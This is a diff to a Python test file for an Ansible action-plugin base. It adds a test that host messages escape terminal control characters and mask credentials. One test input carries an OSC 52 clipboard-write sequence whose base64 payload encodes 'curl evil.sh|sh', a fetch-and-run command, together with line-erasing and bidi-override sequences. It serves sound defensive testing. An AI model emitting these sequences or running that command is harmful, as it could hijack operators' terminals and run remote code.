@@ -1,6 +1,7 @@
 """The one action base (plugin_utils/_action.py): validation, host-prefixed
 failures with phase and connection_lost, once-per-batch work."""
 
+import os
 import sys
 from types import SimpleNamespace
 
@@ -74,7 +75,8 @@ def action_of(cls, args, uuid='task-1'):
     """``cls`` as Ansible builds it for one task (no connection is used)."""
     task = Task.load({'action': 'probe', 'args': dict(args)})
     task._uuid = uuid
-    connection = SimpleNamespace(_shell=SimpleNamespace(tmpdir='/nonexistent'))
+    # the controller itself: a connection the host key judge knows needs no key
+    connection = SimpleNamespace(transport='local', _shell=SimpleNamespace(tmpdir='/nonexistent'))
     return cls(task, connection, PlayContext(), DataLoader(), None, None)
 
 
@@ -171,6 +173,25 @@ def test_host_message_prefixes_once():
     assert _action.host_message('web1', 'boom') == 'web1: boom'
     assert _action.host_message('web1', 'web1: boom') == 'web1: boom'
     assert _action.host_message('web1', Refused('no')) == 'web1: no'
+
+
+def test_host_message_shows_the_host_and_target_text_escaped():
+    """A message carries a flake's host name and what Nix or a target said,
+    and reaches the operator's terminal: every control, ESC, bidi control and
+    line separator escaped (OSC 52 never writes the clipboard, no cursor
+    move erases a line); Nix's own lines stay lines; credentials masked
+    first (the mask's patterns end at a raw ESC)."""
+    osc52 = '\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07'
+    msg = _action.host_message('evil\n\x1b[2Kweb2', 'check said: %s\r\x1b[1A\u202eok\u2028x\n'
+                               'error: https://u:pw@cache.example\x1b[0m failed' % osc52)
+    assert msg == ('evil\\n\\x1b[2Kweb2: check said: \\x1b]52;c;Y3VybCBldmlsLnNofHNo\\x07'
+                   '\\r\\x1b[1A\\u202eok\\u2028x\n'
+                   'error: https://u:***@cache.example\\x1b[0m failed')
+    assert all(not any(c in line for c in '\x1b\x07\r\u202e\u2028') for line in msg.split('\n'))
+    # a message that names the host already is prefixed once, escaped or not
+    assert _action.host_message('a\x1bb', 'a\x1bb: boom') == 'a\\x1bb: boom'
+    assert _action.host_message('web1', NixError('nix eval failed', stderr='error: \x1b[31mbad')) \
+        == 'web1: nix eval failed: error: \\x1b[31mbad'
 
 
 def test_target_sh_runs_a_rendered_program_as_ansible_sends_it(tmp_path):
@@ -357,10 +378,14 @@ class SshConnection:
         self.options = {'host_key_checking': checking, 'ssh_args': '-C',
                         'ssh_common_args': '-F %s -o UserKnownHostsFile=/lab/known_hosts' % config,
                         'ssh_extra_args': '', 'host': '10.0.0.5', 'port': 22,
-                        'remote_user': 'deploy', 'ssh_executable': 'ssh'}
+                        'remote_user': 'deploy', 'ssh_executable': 'ssh',
+                        'control_path_dir': os.path.dirname(config)}
 
     def get_option(self, name):
         return self.options[name]
+
+    def set_option(self, name, value):
+        self.options[name] = value
 
 
 class Touches(Probe):
